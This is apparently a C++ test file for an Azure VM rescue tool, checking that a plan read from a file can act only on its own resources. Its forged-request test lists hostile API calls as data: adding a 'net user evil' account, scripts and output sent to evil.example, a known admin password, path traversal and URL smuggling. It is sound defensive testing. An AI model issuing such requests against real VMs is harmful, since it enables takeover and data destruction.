// A plan can come from a file, and a file from anybody.
#include "offline/plan.hpp"
#include "rescue/job.hpp"
#include "rescue/sending.hpp"

#include "rescue/rescues.hpp"

using namespace azvmreset;
using namespace azvmreset::test;

namespace {

struct Planned {
  explicit Planned(std::string_view rescue_vm = "rescue-01") {
    PlanRescue request(world.vm("dead-01"));
    request.reset.username = "azureuser";
    if (!rescue_vm.empty()) request.rescue.existing = world.vm(rescue_vm);
    plan = world.runner.run(offline::plan(world.context(), std::move(request)), std::chrono::hours(1)).value();
  }

  rescue::Job job() {
    auto at = offline::places_of(plan);
    REQUIRE(at);
    journal::Log log(world.context().storage, Journal(), world.runner.port);
    return rescue::Job(world.context(), plan, *at, rescue::Chronicle(std::move(log)), RescueKeeping());
  }

  SimulatedWorld world;
  Plan plan;
};

PlanCall call(std::string_view method, std::string url, std::string_view body = "") {
  PlanCall made;
  made.method = method;
  made.url = std::move(url);
  made.body = body;
  return made;
}

constexpr std::string_view version = "?api-version=2024-07-01";

std::string with_version(const std::string& path) { return path + std::string(version); }

}  // namespace

TEST_CASE("a VM whose name begins with that of another is another", "[rescue][allowed]") {
  const std::string vm = "/subscriptions/1/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/web";
  CHECK(rescue::below(vm, vm) == "");
  CHECK(rescue::below(vm + "/start", vm) == "/start");
  CHECK_FALSE(rescue::below(vm + "-rescue", vm));
  CHECK_FALSE(rescue::below(vm + "-rescue/runCommands/one", vm));
  CHECK_FALSE(rescue::below(vm, ""));
}

TEST_CASE("every request of a plan is for a place of that plan", "[rescue][allowed]") {
  for (const std::string_view rescue_vm : {"rescue-01", ""}) {
    Planned planned(rescue_vm);
    const rescue::Job job = planned.job();
    for (const PlanStep& step : planned.plan.steps) {
      for (const PlanCall& one : step.calls) {
        CAPTURE(step.name, one.method, one.url, one.body);
        const auto checked = rescue::check_place(job, one);
        INFO((checked ? std::string() : checked.error().message));
        CHECK(checked);
      }
    }
  }
}

TEST_CASE("places that follow from a plan are those that it was made with", "[rescue][allowed]") {
  Planned planned("");
  const auto at = offline::places_of(planned.plan);
  REQUIRE(at);
  CHECK(at->vm == planned.plan.target);
  CHECK(at->os_disk == planned.plan.facts.os_disk_id);
  CHECK(at->rescue_vm == planned.plan.facts.rescue_vm);
  CHECK(at->rescue_subnet == planned.plan.facts.rescue_subnet_id);
  for (const PlanResource& one : planned.plan.resources) {
    const std::string known[] = {at->copy,           at->snapshot,       at->probe_disk,
                                 at->probe_snapshot, at->read_back_disk, at->read_back_snapshot,
                                 at->rescue_vm,      at->rescue_disk,    at->rescue_interface};
    CAPTURE(one.id);
    CHECK(std::find(std::begin(known), std::end(known), one.id) != std::end(known));
  }
}

TEST_CASE("a plan whose id, VM or disk is none leads nowhere", "[rescue][allowed]") {
  Planned planned;
  for (const auto& spoil : std::initializer_list<void (*)(Plan&)>{
           [](Plan& plan) { plan.id = "short"; },
           [](Plan& plan) { plan.id = std::string(29, 'a') + "/.."; },
           [](Plan& plan) { plan.target = "/subscriptions/x"; },
           [](Plan& plan) { plan.facts.os_disk_id += "/../../other"; },
           [](Plan& plan) { plan.facts.rescue_vm = "https://elsewhere.example/"; },
           [](Plan& plan) { plan.from_snapshot = plan.facts.os_disk_id; },
       }) {
    Plan plan = planned.plan;
    spoil(plan);
    CHECK_FALSE(offline::places_of(plan));
  }
}

TEST_CASE("a forged request is not sent", "[rescue][allowed]") {
  Planned planned;
  const rescue::Job job = planned.job();
  const std::string vm = job.at.vm;
  const std::string group = offline::group_of(vm);
  const std::string copy = job.at.copy;
  const std::string script = vm + "/runCommands/azvmreset-" + planned.plan.id + "-marker";
  const PlanCall forged[] = {
      call("DELETE", with_version(job.at.os_disk)),
      call("PUT", with_version(job.at.os_disk), "{}"),
      call("PATCH", with_version(job.at.os_disk), "{}"),
      call("DELETE", with_version(vm)),
      call("PUT", with_version(vm), "{}"),
      call("DELETE", with_version(job.at.rescue_vm)),
      call("PUT", with_version(job.at.rescue_vm), "{}"),
      call("DELETE", with_version(group)),
      call("PUT", with_version(group + "/providers/Microsoft.Compute/disks/another"), "{}"),
      call("POST", with_version(vm + "/generalize")),
      call("POST", with_version(vm + "/runCommand"), "{}"),
      call("PUT", with_version(vm + "/extensions/evil"), "{}"),
      call("PUT", with_version(vm + "/runCommands/evil"), "{}"),
      call("PUT", with_version(vm + "/runCommands/azvmreset-" + planned.plan.id + "-../../x"), "{}"),
      call("DELETE", with_version(copy + "/../" + job.at.os_disk.substr(job.at.os_disk.rfind('/') + 1))),
      call("DELETE", with_version(copy + "x")),
      call("DELETE", with_version("https://elsewhere.example" + copy)),
      call("DELETE", with_version("//elsewhere.example" + copy)),
      call("DELETE", copy + "?api-version=2024-07-01&x=y"),
      call("DELETE", copy + "?api-version=2024-07-01#?"),
      call("POST", vm + "/powerOff?skipShutdown=true&api-version=2024-07-01"),
      call("PUT", with_version(copy),
           R"({"properties":{"creationData":{"sourceResourceId":")" + group +
               R"(/providers/Microsoft.Compute/disks/another"}}})"),
      call("PATCH", with_version(vm),
           R"({"properties":{"storageProfile":{"osDisk":{"managedDisk":{"id":")" + group +
               R"(/providers/Microsoft.Compute/disks/another"}}}}})"),
      call("PUT", with_version(copy), "no JSON"),
      call("PUT", with_version(script), R"({"properties":{"source":{"script":"net user evil /add"}}})"),
      call("PUT", with_version(script), R"({"properties":{"source":{"script":"{script: write}"}}})"),
      call("PUT", with_version(script), R"({"properties":{"source":{"script":["{script: marker}"]}}})"),
      call("PUT", with_version(script), R"({"properties":{"source":{"scriptUri":"https://evil.example/x"}}})"),
      call("PUT", with_version(script), R"({"properties":{"source":{"commandId":"RunPowerShellScript"}}})"),
      call("PUT", with_version(script), R"({"properties":{"runAsUser":"evil"}})"),
      call("PUT", with_version(script), R"({"properties":{"outputBlobUri":"https://evil.example/x"}})"),
      call("PATCH", with_version(vm), R"({"properties":{"extensionProfile":{}}})"),
      call("PATCH", with_version(vm), R"({"identity":{"type":"SystemAssigned"}})"),
      call("PATCH", with_version(vm), R"({"properties":{"osProfile":{"adminPassword":"known"}}})"),
      call("PATCH", with_version(vm), R"({"properties":{"userData":"eA=="}})"),
  };
  for (const PlanCall& one : forged) {
    CAPTURE(one.method, one.url, one.body);
    const auto checked = rescue::check_place(job, one);
    REQUIRE_FALSE(checked);
    CHECK(checked.error().code == ErrorCode::protocol);
    CHECK_FALSE(checked.error().remedy.empty());
  }
}

TEST_CASE("nothing of a forged plan leaves", "[rescue][allowed]") {
  Planned planned;
  rescue::Job job = planned.job();
  const auto asked = planned.world.azure->requests().size();
  auto sent = planned.world.runner.run(
      rescue::write_unguarded(job, "confirm", call("DELETE", with_version(job.at.os_disk))), std::chrono::hours(1));
  REQUIRE_FALSE(sent);
  CHECK(sent.error().code == ErrorCode::protocol);
  CHECK(planned.world.azure->requests().size() == asked);
}

TEST_CASE("a snapshot that was given is read, and nothing else", "[rescue][allowed]") {
  Planned planned;
  planned.plan.from_snapshot = offline::group_of(planned.plan.target) + "/providers/Microsoft.Compute/snapshots/theirs";
  const rescue::Job job = planned.job();
  CHECK(rescue::check_place(job, call("GET", with_version(job.at.snapshot))));
  CHECK_FALSE(rescue::check_place(job, call("DELETE", with_version(job.at.snapshot))));
  CHECK_FALSE(rescue::check_place(job, call("PUT", with_version(job.at.snapshot), "{}")));
}
